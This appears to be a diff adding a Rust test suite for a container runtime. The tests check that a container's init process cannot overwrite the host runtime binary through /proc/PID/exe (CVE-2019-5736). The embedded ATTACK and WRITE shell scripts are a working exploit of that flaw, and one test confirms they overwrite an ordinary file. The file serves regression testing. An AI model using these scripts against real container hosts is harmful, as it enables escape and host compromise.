@@ -1,0 +1,180 @@
+//! The host's program file stays as it is, whatever a container does while we are in it.
+//!
+//! An attacker is process 1 of a container: it stops every process that appears in its PID namespace, opens its
+//! `/proc/PID/exe`, lets it go on, and writes to the file as soon as nobody executes it any more (CVE-2019-5736).
+
+mod common;
+
+use common::{Bed, Ran, finish, id, until};
+use serde_json::json;
+use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::PathBuf;
+use std::process::Command;
+
+/// Stops, opens and overwrites. Says `caught EXE` for what could be opened, and `WROTE EXE` for a success.
+const ATTACK: &str = r#"
+    while [ ! -e /out/stop ]; do
+        kill -STOP -1 2>/dev/null
+        for p in /proc/[0-9]*; do
+            [ $p = /proc/1 ] && continue
+            exe=$(readlink $p/exe 2>/dev/null)
+            case "$exe" in */busybox | '') continue ;; esac
+            mkdir "/out/seen${p#/proc}${exe##*/}" 2>/dev/null || continue
+            sh /out/write "$exe" 9<$p/exe 2>/dev/null &
+        done
+        kill -CONT -1 2>/dev/null
+    done
+    wait
+"#;
+
+/// With the file open as descriptor 9: write to it, for as long as it may still be executed.
+const WRITE: &str = r#"
+    echo "caught $1" >> /out/log
+    n=0
+    while [ $n -lt 100 ]; do
+        if echo overwritten 2>/dev/null 1<>/proc/self/fd/9; then echo "WROTE $1" >> /out/log; exit; fi
+        n=$((n + 1)); sleep 0.01
+    done
+"#;
+
+/// An attacker, and a copy of the runtime for it to hit.
+struct Attack {
+    bed: Bed,
+    name: String,
+    runtime: PathBuf,
+    user_namespace: bool,
+}
+
+impl Attack {
+    fn new(user_namespace: bool) -> Self {
+        let mut bed = Bed::new(ATTACK);
+        let out = bed.path("out");
+        fs::create_dir_all(out.join("seen")).expect("a directory");
+        for dir in [&out, &out.join("seen")] {
+            fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("for everybody");
+        }
+        fs::write(out.join("write"), WRITE).expect("a script");
+        let runtime = bed.path("victim");
+        fs::copy(env!("CARGO_BIN_EXE_gantry-runtime"), &runtime).expect("a copy");
+        fs::set_permissions(&runtime, fs::Permissions::from_mode(0o777)).expect("writable by everybody");
+        let all = json!(["CAP_SYS_PTRACE", "CAP_KILL", "CAP_DAC_OVERRIDE", "CAP_FOWNER"]);
+        bed.config["process"]["capabilities"] = json!({"bounding": all, "effective": all, "permitted": all});
+        let mounts = bed.config["mounts"].as_array_mut().expect("mounts");
+        mounts.push(json!({"destination": "/out", "type": "bind", "source": out, "options": ["rbind"]}));
+        if user_namespace {
+            own_users(&mut bed);
+        }
+        symlink("/proc/self/exe", bed.rootfs("bin/link")).expect("a link");
+        fs::write(bed.rootfs("bin/script"), "#!/proc/self/exe\n").expect("a script");
+        fs::set_permissions(bed.rootfs("bin/script"), fs::Permissions::from_mode(0o755)).expect("its mode");
+        Self { bed, name: id("attack"), runtime, user_namespace }
+    }
+
+    /// The copy of the runtime, on the state root of the bed.
+    fn runtime(&self, args: &[&str]) -> Ran {
+        let mut command = Command::new(&self.runtime);
+        command.arg("--root").arg(self.bed.path("state")).args(args).current_dir(self.bed.bundle());
+        finish(command.stdin(std::process::Stdio::null()))
+    }
+
+    fn log(&self) -> String {
+        fs::read_to_string(self.bed.path("out/log")).unwrap_or_default()
+    }
+
+    /// Programs that are our own file.
+    fn programs() -> [&'static str; 3] {
+        ["/proc/self/exe", "/bin/link", "/bin/script"]
+    }
+
+    /// Let it come to its end, which is after the last attempt to write, then see what it has done.
+    fn end(&self) {
+        fs::write(self.bed.path("out/stop"), "").expect("a file");
+        self.bed.wait_for_status(&self.name, "stopped");
+        self.check();
+    }
+
+    fn check(&self) {
+        let before = fs::read(env!("CARGO_BIN_EXE_gantry-runtime")).expect("the original");
+        assert!(fs::read(&self.runtime).expect("the copy") == before, "the host's file was changed: {}", self.log());
+        assert!(!self.log().contains("WROTE"), "{}", self.log());
+    }
+}
+
+fn own_users(bed: &mut Bed) {
+    let chown = Command::new("chown").args(["-R", "100000:100000"]).arg(bed.rootfs("")).status();
+    assert!(chown.expect("chown").success());
+    let map = json!([{"containerID": 0, "hostID": 100_000, "size": 65_536}]);
+    bed.config["linux"]["uidMappings"] = map.clone();
+    bed.config["linux"]["gidMappings"] = map;
+    bed.config["linux"]["namespaces"].as_array_mut().expect("namespaces").push(json!({"type": "user"}));
+}
+
+#[test]
+fn the_attack_works_on_an_ordinary_file() {
+    let attack = Attack::new(false);
+    attack.bed.save();
+    let tool = attack.bed.path("out/busybox-tool");
+    fs::copy("/bin/busybox", &tool).expect("a copy");
+    let ran = attack.runtime(&["run", "-d", &attack.name]);
+    assert_eq!(ran.code, 0, "{}", ran.err);
+    assert_eq!(attack.runtime(&["exec", &attack.name, "/out/busybox-tool", "sleep", "0.1"]).code, 0);
+    until("the tool is overwritten", || attack.log().contains("WROTE /out/busybox-tool"));
+    assert!(fs::read(&tool).expect("the tool").starts_with(b"overwritten"));
+}
+
+#[test]
+fn exec_into_an_attacker() {
+    for user_namespace in [false, true] {
+        let attack = Attack::new(user_namespace);
+        attack.bed.save();
+        let ran = attack.runtime(&["run", "-d", &attack.name]);
+        assert_eq!(ran.code, 0, "{}", ran.err);
+        // Caught on its way into the container, which lasts a moment.
+        for _ in 0..10 {
+            assert_eq!(attack.runtime(&["exec", &attack.name, "true"]).code, 0);
+        }
+        // Caught as a program in the container, for as long as the attacker likes.
+        for program in Attack::programs() {
+            let ran = attack.runtime(&["exec", &attack.name, program, "--version"]);
+            assert!(!ran.err.contains("panicked"), "{program}: {}", ran.err);
+        }
+        if !attack.user_namespace {
+            until("it has caught us", || attack.log().contains("caught"));
+        }
+        attack.end();
+    }
+}
+
+#[test]
+fn run_beside_an_attacker() {
+    for user_namespace in [false, true] {
+        let attack = Attack::new(user_namespace);
+        attack.bed.save();
+        let ran = attack.runtime(&["run", "-d", &attack.name]);
+        assert_eq!(ran.code, 0, "{}", ran.err);
+        let pid = attack.bed.pid(&attack.name);
+        for program in Attack::programs() {
+            // Another container in the attacker's PID namespace, with an image of the attacker's.
+            let mut config = attack.bed.config.clone();
+            config["process"]["args"] = json!([program, "--version"]);
+            for namespace in config["linux"]["namespaces"].as_array_mut().expect("namespaces") {
+                if namespace["type"] == "pid" || namespace["type"] == "user" {
+                    let kind = namespace["type"].as_str().expect("a type").to_owned();
+                    *namespace = json!({"type": kind, "path": format!("/proc/{pid}/ns/{kind}")});
+                }
+            }
+            fs::write(attack.bed.bundle().join("config.json"), config.to_string()).expect("config.json");
+            let ran = attack.runtime(&["run", &id("beside")]);
+            // As a script, it takes its own name for a command.
+            assert!(
+                ran.out.contains("gantry-runtime version") || ran.err.contains("no command `/bin/script`"),
+                "{ran:?}"
+            );
+        }
+        if !attack.user_namespace {
+            until("it has caught us", || attack.log().contains("caught"));
+        }
+        attack.end();
+    }
+}
